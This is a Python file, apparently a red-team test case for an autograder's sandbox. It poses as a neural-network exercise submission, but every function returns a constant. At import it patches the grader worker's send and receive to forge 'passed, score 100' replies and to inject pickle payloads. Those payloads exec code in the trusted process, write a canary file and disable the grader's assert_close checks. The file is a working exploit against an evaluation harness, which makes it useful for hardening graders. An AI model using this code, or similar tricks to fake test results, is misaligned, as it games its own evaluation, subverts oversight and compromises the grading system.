"""Points without the work: rewrite the worker's wire protocol to forge replies.

Attack: at import the module takes ``grader_worker.server`` and
``grader_worker.wire`` from ``sys.modules`` and replaces ``Worker.receive``
and ``Worker.send`` so that replies to calls are forged frames written straight
to the reply pipe: first well-formed lies (``{"ok": {"passed": true, "score":
100}}``, a reply that is both ``ok`` and ``error``, an unsolicited
``callback`` request for the trusted side, a handle to the module itself),
then frames that would execute code in the trusted process if it ever
unpickled or trusted them: a raw pickle payload, a pickle in an unknown ``$p``
tag, and an object-dtype array whose buffer is a pickle. The pickle's
``__reduce__`` runs code that writes ``pwned-by-pickle`` into the canary
folder and replaces ``grader.testing.assert_close`` with a no-op.

Success would look like: any points, or the file ``pwned-by-pickle`` in the
canary folder.
Backends: bwrap, docker, subprocess
"""

import base64
import json
import os
import pickle
import struct
import sys

import numpy as np

W = 12345.678
CANARY_DIR = "@@CANARY_DIR@@"
TRUSTED_CODE = (
    "import pathlib\n"
    f"pathlib.Path({CANARY_DIR!r}, 'pwned-by-pickle').write_text('the trusted side ran worker code')\n"
    "import grader.testing as t\n"
    "t.assert_close = t.compare_to_reference = t.assert_equal = lambda *a, **k: None\n"
)


class _RunInTrusted:
    def __reduce__(self):
        return (exec, (TRUSTED_CODE,))


PICKLE = pickle.dumps(_RunInTrusted())


def _frame(tree, buffers=b"", raw_payload=None):
    if raw_payload is None:
        offsets = [[0, len(buffers)]] if buffers else []
        header = json.dumps({"m": tree, "b": offsets}).encode()
        raw_payload = struct.pack(">I", len(header)) + header + buffers
    return struct.pack(">Q", len(raw_payload)) + raw_payload


def _d(**items):
    return {"$d": [[k, v] for k, v in items.items()]}


LIES = [
    lambda: _frame(_d(ok=_d(passed=True, score=100, status="passed"))),
    lambda: _frame(_d(ok=_d(result="ok"), error=None, stats=_d(maxrss=-1, cpu=-1.0))),
    lambda: _frame(_d(callback=_d(id=1, args=[], kwargs=_d()))),
    lambda: _frame(_d(ok={"$h": 1, "ty": "numpy.ndarray"})),
]
BREAKERS = [
    lambda: _frame(None, raw_payload=PICKLE),
    lambda: _frame(_d(ok={"$p": base64.b64encode(PICKLE).decode()})),
    lambda: _frame(_d(ok={"$a": 0, "dt": "|O", "sh": [1]}), buffers=PICKLE),
]

server = sys.modules.get("grader_worker.server")
state = {"op": None, "calls": 0, "key": ""}
if server is not None:
    _receive, _send = server.Worker.receive, server.Worker.send

    def receive(self):
        request = _receive(self)
        if isinstance(request, dict):
            state["op"] = request.get("op")
            state["key"] = repr(request.get("args"))[:200]
        return request

    def send(self, message):
        if state["op"] != "call":
            return _send(self, message)
        state["calls"] += 1
        n = state["calls"]
        if n <= len(LIES):
            os.write(self.fd_out, LIES[n - 1]())
            return None
        os.write(self.fd_out, BREAKERS[sum(map(ord, state["key"])) % len(BREAKERS)]())
        return None

    server.Worker.receive = receive
    server.Worker.send = send
    print("worker protocol patched")
else:
    print("no grader_worker.server in sys.modules")


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
